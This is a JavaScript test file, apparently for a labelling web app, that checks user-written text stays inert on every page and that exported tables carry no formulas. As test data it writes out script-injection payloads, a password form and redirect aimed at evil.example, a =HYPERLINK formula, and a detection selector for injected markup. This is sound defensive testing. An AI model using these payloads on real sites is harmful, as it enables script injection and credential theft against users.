// Attack 8: markup in every text that somebody can write is shown as text on every page, runs nothing and loads nothing.
// Attack 26: nor does it become a formula in the table that a page saves.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { test } from "node:test";
import { as, demo, missing } from "./demo.mjs";
import { squares, tar } from "./files.mjs";
import { callerOf, importItems, makeProject } from "./project.mjs";

const MARKUP = "<img src=x onerror=pwned()>";
const FORMULA = "=HYPERLINK(\"http://evil.example\")";
const TEXTS = `${MARKUP}"'><svg onload=pwned()><script>pwned()</script><iframe srcdoc="<script>parent.pwned()</script>"></iframe>`;
const GUIDELINE = `# ${MARKUP}

[here](javascript:pwned%28%29) [there](data:text/html,x) ![far](http://evil.example/far.png)

${TEXTS}

<form action="http://evil.example"><input name="password"></form>
<a href="https://evil.example" onclick="pwned()">a link</a><p id="app" class="page">clobbered</p><meta http-equiv="refresh" content="0;url=http://evil.example">
<math><mtext><table><mglyph><svg><title><!--</title><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">

## ${MARKUP}

Twice.

## ${MARKUP}
`;
const SAID = `WEBVTT\n\nSTYLE\n::cue { background: url(http://evil.example/cue) }\n\n00:00.000 --> 00:09.000\n${MARKUP}<v ${MARKUP}><c.x onclick=pwned()>said</c>\n`;
const quoted = (text) => JSON.stringify(text);
const SPEC = `project: hostile
title: ${quoted(MARKUP)}
description: ${quoted(TEXTS)}
inputs:
  - { name: clip, type: video, captions: said, title: ${quoted(MARKUP)} }
  - { name: said, type: captions }
  - { name: photo, type: image }
  - { name: words, type: text, title: ${quoted(MARKUP)} }
  - { name: more, type: object }
  - { name: ${quoted(MARKUP)}, type: text }
layout: { stage: [clip, photo], title: words }
guideline: ${quoted(GUIDELINE)}
labels:
  - name: colour
    kind: choice
    title: ${quoted(MARKUP)}
    description: ${quoted(TEXTS)}
    options: [{ value: ${quoted(MARKUP)}, title: ${quoted(MARKUP)}, description: ${quoted(TEXTS)} }, { value: "</script><script>pwned()</script>", title: other }]
  - { name: why, kind: text, title: ${quoted(MARKUP)}, suggestions: [${quoted(MARKUP)}, ${quoted(MARKUP)}], multiline: true }
  - { name: fits, kind: verify, of: words, fix: true, title: ${quoted(MARKUP)} }
policy: { overlap: { min: 2, max: 2 } }
`;
const JSON_BODY = { "content-type": "application/json" };

/** Gives an answer through the interface: one of the two options, and hostile words wherever there is room for them. */
async function answer(page, option) {
  const call = await callerOf(page);
  const send = (path, body) => call(`projects/hostile/work/${path}`, { method: "POST", headers: JSON_BODY, body: JSON.stringify(body) });
  const { tasks } = await send("lease", { take: 1 });
  const [{ task, fence }] = tasks;
  await send(`${task}/flag`, { reason: MARKUP, note: TEXTS });
  await send(`${task}/submit`, { fence, key: `hostile-${option}`, values: { colour: option, why: TEXTS, fits: { fix: TEXTS } }, note: TEXTS, unsure: ["why"] });
}

/** Runs in the page: what markup would have left there. */
const leftBehind = () =>
  [...document.querySelectorAll("img[src=x], [onerror], [onload], [onclick], iframe, object, embed, form[action], script:not([src]), meta[http-equiv=refresh], [href^=javascript], [href^='data:text'], [src*='evil.example'], #app .page > #app")]
    .map((element) => element.outerHTML.slice(0, 200))
    .concat(window.pwned ? ["a script ran"] : []);

/** Opens a page, waits until it shows the payload as text, and finds nothing of it but text. */
async function shows(page, address) {
  await page.goto(address);
  await page.waitForFunction((markup) => document.body.innerText.includes(markup) || [...document.querySelectorAll("[title], input, textarea, .cm-content")].some((one) => `${one.title} ${one.value} ${one.textContent}`.includes(markup)), MARKUP, { polling: 100 });
  assert.deepEqual(await page.evaluate(leftBehind), [], address);
}

/** Keeps whatever a window asks of another server; there it is refused. */
async function watched(context) {
  const far = [];
  await context.route((url) => /^https?:$/.test(url.protocol) && url.origin !== new URL(demo.address).origin, (route) => {
    far.push(route.request().url());
    return route.abort();
  });
  return far;
}

test("8: markup in names, titles, guideline, data, captions, answers, notes and reasons stays text on every page", { skip: missing, timeout: 240_000 }, async () => {
  await as("admin", async (page) => {
    await makeProject(page, SPEC, { associate: "associate", reviewer: "reviewer", lead: "lead" });
    const clip = await readFile(new URL("../../demo/stow-audit/clips/stow-101.mp4", import.meta.url));
    const row = { clip: "one.mp4", said: "one.vtt", photo: "one.png", words: MARKUP, more: { [MARKUP]: TEXTS }, [MARKUP]: TEXTS };
    const files = { "one.mp4": clip, "one.vtt": SAID, "one.png": squares(3), "items.jsonl": [row, { ...row, words: `${FORMULA} ${MARKUP}` }].map((one) => JSON.stringify(one)).join("\n") };
    await importItems(page, "hostile", encodeURIComponent(`${MARKUP}.tar`), tar(files), encodeURIComponent(MARKUP));
    const call = await callerOf(page);
    const { link } = await call("people", { method: "POST", headers: JSON_BODY, body: JSON.stringify({ name: "hostile", display: MARKUP }) });
    assert.match(link, /^\/setup#/);
  });
  await as("associate", (page) => answer(page, MARKUP));
  await as("reviewer", (page) => answer(page, "</script><script>pwned()</script>"));

  await as("associate", async (page, context) => {
    const far = await watched(context);
    for (const address of ["/", "/p/hostile/work"]) await shows(page, address);
    await page.getByRole("button", { name: "Submit and next" }).waitFor();
    await page.keyboard.press("Shift+G");
    await page.getByRole("region", { name: "Guideline" }).getByText("there").waitFor();
    await page.waitForFunction(() => document.querySelectorAll("video, canvas").length > 0, null, { polling: 100 });
    assert.deepEqual(await page.evaluate(leftBehind), []);
    assert.deepEqual(far, []);
  });
  await as("lead", async (page, context) => {
    const far = await watched(context);
    const pages = ["", "/items", "/items/1", "/batches", "/cases", "/review", "/review/1", "/imports", "/exports", "/spec", "/people"];
    for (const address of pages) await shows(page, `/p/hostile${address}`);
    assert.deepEqual(far, []);
  });
  await as("admin", async (page, context) => {
    const far = await watched(context);
    for (const address of ["/", "/people"]) await shows(page, address);
    assert.deepEqual(far, []);
  });
});

test("26: the table of items that a page saves holds no formula", { skip: missing, timeout: 120_000 }, () =>
  as("lead", async (page) => {
    await shows(page, "/p/hostile/items");
    await page.locator("[role=grid][aria-busy=false]").getByRole("row").nth(1).waitFor();
    const saved = page.waitForEvent("download");
    await page.keyboard.press("Shift+C");
    const text = await readFile(await (await saved).path(), "utf8");
    assert.match(text, /HYPERLINK/, "the formula is in the table");
    for (const cell of text.split(/\r\n|,/)) assert.doesNotMatch(cell, /^"?[=+@]/, cell);
  }));
